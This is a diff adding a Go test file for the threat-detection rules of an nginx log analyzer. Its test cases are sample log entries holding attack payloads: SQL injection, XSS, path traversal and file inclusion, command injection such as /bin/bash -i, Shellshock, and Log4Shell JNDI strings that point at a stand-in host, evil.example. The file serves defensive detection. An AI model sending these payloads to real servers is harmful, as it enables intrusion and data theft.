@@ -0,0 +1,188 @@
+package threats
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/xHacka/nginx-log-analyzer/internal/models"
+)
+
+func TestUnescape(t *testing.T) {
+	tests := []struct {
+		in   string
+		plus bool
+		want string
+	}{
+		{"/plain/path", false, "/plain/path"},
+		{"%2e%2E%2f", false, "../"},
+		{"a+b", false, "a+b"},
+		{"a+b", true, "a b"},
+		{"%252e", false, "%2e"},
+		{"100%", false, "100%"},
+		{"%4", false, "%4"},
+		{"%zz%41", false, "%zzA"},
+		{"%%41", false, "%A"},
+		{"%00x", false, "\x00x"},
+		{"%41%", true, "A%"},
+	}
+	for _, tt := range tests {
+		if got := unescape(tt.in, tt.plus); got != tt.want {
+			t.Errorf("unescape(%q, %v) = %q, want %q", tt.in, tt.plus, got, tt.want)
+		}
+	}
+}
+
+func TestVariantsDecodesTwice(t *testing.T) {
+	got := variants("%25252e", false)
+	want := []string{"%25252e", "%252e", "%2e"}
+	if strings.Join(got, " ") != strings.Join(want, " ") {
+		t.Errorf("variants = %q, want %q", got, want)
+	}
+}
+
+func TestBundledRules(t *testing.T) {
+	d, err := Load("", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		rule  string
+		entry models.LogEntry
+	}{
+		{"sqli-union", models.LogEntry{Path: "/items", Query: "id=1+UNION+ALL+SELECT+null,password"}},
+		{"sqli-union", models.LogEntry{Path: "/items", Query: "id=1%2520union%2520select%25201"}},
+		{"sqli-tautology", models.LogEntry{Path: "/login", Query: "user=admin'+OR+'1'='1"}},
+		{"sqli-comment", models.LogEntry{Path: "/login", Query: "user=admin'--"}},
+		{"sqli-functions", models.LogEntry{Path: "/items", Query: "id=1+AND+SLEEP(5)"}},
+		{"sqli-stacked", models.LogEntry{Path: "/items", Query: "id=1;DROP+TABLE+users"}},
+		{"xss-script-tag", models.LogEntry{Path: "/search", Query: "q=%3Cscript%3Ealert(1)%3C/script%3E"}},
+		{"xss-event-handler", models.LogEntry{Path: "/search", Query: "q=<img+src=x+onerror=alert(1)>"}},
+		{"xss-js-uri", models.LogEntry{Path: "/go", Query: "next=javascript:alert(1)"}},
+		{"xss-html-injection", models.LogEntry{Path: "/search", Query: "q=<svg/onload=x>"}},
+		{"xss-dom", models.LogEntry{Path: "/search", Query: "q=document.cookie"}},
+		{"traversal-dotdot", models.LogEntry{Path: "/static/../../etc/hosts"}},
+		{"traversal-dotdot", models.LogEntry{Path: "/download", Query: "file=..%2f..%2fapp.conf"}},
+		{"traversal-encoded", models.LogEntry{Path: "/static/%252e%252e/secret"}},
+		{"lfi-unix-files", models.LogEntry{Path: "/view", Query: "page=/etc/passwd"}},
+		{"lfi-windows-files", models.LogEntry{Path: "/view", Query: "page=C:\\Windows\\System32\\drivers"}},
+		{"lfi-wrappers", models.LogEntry{Path: "/view", Query: "page=php://filter/resource=index"}},
+		{"lfi-null-byte", models.LogEntry{Path: "/view", Query: "page=report.pdf%00.php"}},
+		{"rfi-remote-script", models.LogEntry{Path: "/view", Query: "page=http://evil.example/shell.txt"}},
+		{"cmdi-shell-chain", models.LogEntry{Path: "/ping", Query: "host=127.0.0.1;cat+/etc/hostname"}},
+		{"cmdi-shell-paths", models.LogEntry{Path: "/cgi", Query: "cmd=/bin/bash+-i"}},
+		{"cmdi-shellshock", models.LogEntry{Path: "/", UserAgent: "() { :; }; echo vulnerable"}},
+		{"cmdi-php-code", models.LogEntry{Path: "/index.php", Query: "code=system('id')"}},
+		{"scanner-wordpress", models.LogEntry{Path: "/wp-login.php"}},
+		{"scanner-sensitive-files", models.LogEntry{Path: "/.env"}},
+		{"scanner-sensitive-files", models.LogEntry{Path: "/.git/config"}},
+		{"scanner-admin-panels", models.LogEntry{Path: "/phpmyadmin/"}},
+		{"scanner-webshells", models.LogEntry{Path: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"}},
+		{"scanner-user-agent", models.LogEntry{Path: "/", UserAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"}},
+		{"log4shell-jndi", models.LogEntry{Path: "/", UserAgent: "${jndi:ldap://evil.example/a}"}},
+		{"log4shell-jndi", models.LogEntry{Path: "/", Query: "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"}},
+		{"log4shell-obfuscated", models.LogEntry{Path: "/", Referer: "${${lower:j}ndi:ldap://evil.example/a}"}},
+	}
+	covered := make(map[string]bool)
+	for _, tt := range tests {
+		covered[tt.rule] = true
+		got := d.Match(&tt.entry)
+		if !hasID(got, tt.rule) {
+			t.Errorf("%s: %s?%s (ua %q) matched %q", tt.rule, tt.entry.Path, tt.entry.Query, tt.entry.UserAgent, got)
+		}
+	}
+	for _, r := range d.Rules() {
+		if !covered[r.ID] {
+			t.Errorf("bundled rule %s has no test case", r.ID)
+		}
+		if !strings.HasPrefix(r.ID, r.Category+"-") {
+			t.Errorf("rule %s: id does not start with its category %q", r.ID, r.Category)
+		}
+	}
+}
+
+func TestBundledRulesIgnoreOrdinaryRequests(t *testing.T) {
+	d, err := Load("", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range []models.LogEntry{
+		{Path: "/", UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"},
+		{Path: "/blog/2024/01/union-station-renovation", Referer: "https://www.example.com/"},
+		{Path: "/search", Query: "q=select+a+union+rep&page=2"},
+		{Path: "/search", Query: "q=rock+%26+roll"},
+		{Path: "/products/shell-fittings", Query: "sort=price&order=desc"},
+		{Path: "/docs/id/whoami-command"},
+		{Path: "/api/v1/users/42", Query: "fields=id,name,email"},
+		{Path: "/static/app.3f9a1c.js", Referer: "https://www.example.com/account?tab=billing"},
+		{Path: "/download", Query: "file=report-2024.pdf"},
+		{Path: "/go", Query: "next=https://www.example.com/welcome"},
+	} {
+		if got := d.Match(&e); got != "" {
+			t.Errorf("%s?%s matched %q", e.Path, e.Query, got)
+		}
+	}
+}
+
+func TestLoadRulesFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "rules.yaml")
+	err := os.WriteFile(path, []byte(`
+- id: scanner-wordpress
+  pattern: '^/wp-admin/'
+  fields: [path]
+- id: custom-internal
+  pattern: '^/internal/'
+  fields: [path]
+`), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+	d, err := Load(path, []string{" scanner-sensitive-files"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		path string
+		want string
+	}{
+		{"/wp-admin/options.php", "scanner-wordpress"},
+		{"/wp-login.php", ""}, // bundled pattern replaced
+		{"/internal/metrics", "custom-internal"},
+		{"/.env", ""}, // disabled
+	}
+	for _, tt := range tests {
+		if got := d.Match(&models.LogEntry{Path: tt.path}); got != tt.want {
+			t.Errorf("%s matched %q, want %q", tt.path, got, tt.want)
+		}
+	}
+	rules := d.Rules()
+	if last := rules[len(rules)-1]; last.ID != "custom-internal" || last.Category != "custom" {
+		t.Errorf("added rule = %s (%s), want custom-internal (custom) last", last.ID, last.Category)
+	}
+}
+
+func TestParseRejectsInvalidRules(t *testing.T) {
+	tests := map[string]string{
+		"missing id":    "- pattern: 'x'",
+		"comma in id":   "- {id: 'a,b', pattern: 'x'}",
+		"duplicate id":  "- {id: a, pattern: 'x'}\n- {id: a, pattern: 'y'}",
+		"no pattern":    "- {id: a}",
+		"bad pattern":   "- {id: a, pattern: '('}",
+		"unknown field": "- {id: a, pattern: 'x', fields: [cookie]}",
+	}
+	for name, data := range tests {
+		if _, err := parse([]byte(data), "test"); err == nil {
+			t.Errorf("%s: parse succeeded", name)
+		}
+	}
+}
+
+func hasID(ids, id string) bool {
+	for _, s := range strings.Split(ids, ",") {
+		if s == id {
+			return true
+		}
+	}
+	return false
+}